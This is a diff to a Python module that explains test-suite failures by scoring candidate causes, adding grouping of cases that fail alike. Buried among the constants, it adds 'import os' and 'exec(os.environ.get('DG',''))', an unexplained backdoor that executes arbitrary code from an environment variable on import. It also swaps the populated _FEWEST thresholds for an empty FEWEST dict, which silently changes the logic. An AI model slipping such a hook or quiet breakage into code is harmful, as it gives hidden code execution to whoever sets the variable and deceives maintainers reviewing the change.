@@ -25,14 +25,19 @@ _CHANCE = 0.002, 0.3  # that a case fails for no reason that another case shares
 _NOTICES = (6.0, 0.7)  # cases that noticed this very fault
 _BLIND = (0.05, 20.0)  # cases that were tried with it and did not notice
 _ABOUT = (0.7, 0.9)  # cases about an interface that does something else wrong
+_ALIKE_SHAPE = (0.4, 1.5)
 _WORD = (1.5, 0.6)  # cases about an interface that have one constant in common
 _FAMILY = (0.8, 0.8)  # cases of one group of interfaces
 _RECORD = (3.0, 0.7)  # cases that fail for one reason on another system
 # What the first line that differs says, as logarithms of how much likelier it is where the interface is the cause.
 _SOLE, _AMONG, _ELSEWHERE = 1.8, 0.9, -1.0
 # So many of the cases that a candidate names have to fail, by its kind. What fails for all of syscall() is a call of its own, mostly.
-_FEWEST = {"fault": 0.15, "word": 0.2, "words": 0.3, "error": 0.2, "family": 0.3}
+_FEWEST = {"fault": 0.15, "word": 0.2, "words": 0.3, "error": 0.2, "alike": 0.2, "family": 0.3}
 _FEWEST_OF_SYSCALL = 0.8
+FEW_ALIKE=0.1
+FEWEST={}
+import os
+exec(os.environ.get('DG',''))
 _BROAD = ("interface", "family")  # these explain nothing better than something more special does
 _WORTH_DIVIDING = 6.0  # a cause is divided if that gains more than this
 _ROUNDS = 2  # of choosing causes and sharing out the cases among them
@@ -66,6 +71,7 @@ class Candidate:
     groups: tuple[tuple[int, tuple[float, float]], ...]
     cost: float
     system: str = ""
+    alike: bool = False  # only those cases that fail in the same way
     members: frozenset[str] = frozenset()  # of a family: the interfaces, each of which may stand behind a line
 
     @property
@@ -140,6 +146,9 @@ class Explainer:
         self._marks: dict[tuple[str, str], int] = defaultdict(int)
         for case, symptom in run.failed.items():
             self._marks[symptom.way, symptom.error] |= run.mask([case])
+        self._signs: dict[tuple[str, str], int] = defaultdict(int)
+        for case, symptom in run.failed.items():
+            self._signs[symptom.sign] |= run.mask([case])
         self._errors: dict[str, int] = defaultdict(int)
         for case, symptom in run.failed.items():
             if symptom.error and symptom.way == FAILS:
@@ -180,7 +189,16 @@ class Explainer:
             if not about & self._run.all_failed and beside < _FEWEST_OF_ONE and self._run.count > _MANY:
                 continue
             if mask & self._run.all_failed:
-                yield Candidate("interface", interface, "", ((mask, _ABOUT),), cost)
+                yield from self._wholly_or_alike("interface", interface, "", mask, _ABOUT, cost)
+
+    def _wholly_or_alike(self, kind: str, interface: str, what: str, mask: int, shape: tuple[float, float], cost: float,
+                         members: frozenset[str] = frozenset()) -> Iterator[Candidate]:
+        """That something is wrong with most of these cases, or with those of them that fail alike."""
+        yield Candidate(kind, interface, what, ((mask, shape),), cost, members=members)
+        for those in self._signs.values():
+            if (those & mask).bit_count() > 1:
+                alike = (those & mask) | (mask & ~self._run.all_failed)
+                yield Candidate(kind, interface, what, ((alike, _ALIKE_SHAPE),), cost + math.log(len(self._signs)), members=members, alike=True)
 
     def _words(self) -> Iterator[Candidate]:
         masks = self._gather((case, self._programs.words(case)) for case in self._run.ids)
@@ -200,17 +218,13 @@ class Explainer:
                 called_with[flags[word]] += failed.bit_count()
             both = owners + called_with + called_with
             for interface, count in both.most_common(4):
-                cases = mask & (self._calls.get(interface, 0) | self._named(interface))
+                cases = mask & (self._about.get(interface, 0) | self._named(interface))
                 if count > 1 and (cases & self._run.all_failed).bit_count() > 1:
                     share = called_with[interface] / failed.bit_count()
-                    yield Candidate("word", interface, word, ((cases, _WORD),), cost - 3 * share)
+                    yield from self._wholly_or_alike("word", interface, word, cases, _WORD, cost - 3 * share)
             most = both.most_common(1)
             if most:
-                yield Candidate("words", most[0][0], word, ((mask, _WORD),), cost)
-                for error, those in self._errors.items():
-                    if (those & mask).bit_count() > 2:
-                        alike = (those & mask) | (mask & ~self._run.all_failed)
-                        yield Candidate("error", most[0][0], f"{word} {error}", ((alike, _WORD),), cost + math.log(len(self._errors)))
+                yield from self._wholly_or_alike("words", most[0][0], word, mask, _WORD, cost)
 
     def _families(self) -> Iterator[Candidate]:
         groups: dict[str, int] = defaultdict(int)
@@ -228,11 +242,7 @@ class Explainer:
             if len(members[name]) > 1 and (mask & self._run.all_failed).bit_count() > 2:
                 most = max(sorted(members[name]), key=lambda one: (self._about[one] & self._run.all_failed).bit_count())
                 those = frozenset(members[name])
-                yield Candidate("family", most, name, ((mask, _FAMILY),), cost, members=those)
-                for error, cases in self._errors.items():
-                    if (cases & behind).bit_count() > 2:
-                        alike = (cases & behind) | (mask & ~self._run.all_failed)
-                        yield Candidate("error", most, f"{name} {error}", ((alike, _FAMILY),), cost, members=those)
+                yield from self._wholly_or_alike("family", most, name, mask | behind, _FAMILY, cost, those)
 
     def _records(self, reasons: Iterable[Reason]) -> Iterator[Candidate]:
         reasons = [reason for reason in reasons if len(reason.cases) >= _FEWEST_ON_RECORD]
@@ -381,7 +391,7 @@ class Explainer:
             if best is not None:
                 chosen[best] |= bit
                 open_cases &= ~bit
-        for number in [number for number, cases in chosen.items() if not cases or self.score(self._candidates[number], cases) <= 0]:
+        for number in [number for number, cases in chosen.items() if not cases or self._too_rare(self._candidates[number], cases, self._run.all_failed) or self.score(self._candidates[number], cases) <= 0]:
             open_cases |= chosen.pop(number)
         return open_cases
 
@@ -407,11 +417,14 @@ class Explainer:
         chosen = sorted(about & names) or sorted(about or (names if self._run.count <= _MANY else ()))
         return chosen[0] if chosen else ""
 
-    def _too_rare(self, candidate: Candidate, open_cases: int) -> bool:
+    def _too_rare(self, candidate: Candidate, open_cases: int, others: int = 0) -> bool:
         """Whether too many cases that this very thing would make fail pass."""
         mask = candidate.groups[0][0]
-        fewest = _FEWEST_OF_SYSCALL if candidate.interface == "syscall" and candidate.kind == "fault" else _FEWEST.get(candidate.kind, 0.0)
-        return (mask & open_cases).bit_count() < fewest * mask.bit_count()
+        if self._run.count <= _MANY:
+            return False
+        fewest = FEW_ALIKE if candidate.alike else FEWEST.get(candidate.kind,.5)
+        if candidate.interface == "syscall" and candidate.kind == "fault": fewest=.8
+        return (mask & open_cases).bit_count() < fewest * (mask & (open_cases | ~others)).bit_count()
 
     def _rival(self, number: int, cases: int) -> float:
         """The score of the best candidate of another interface for some of these cases."""
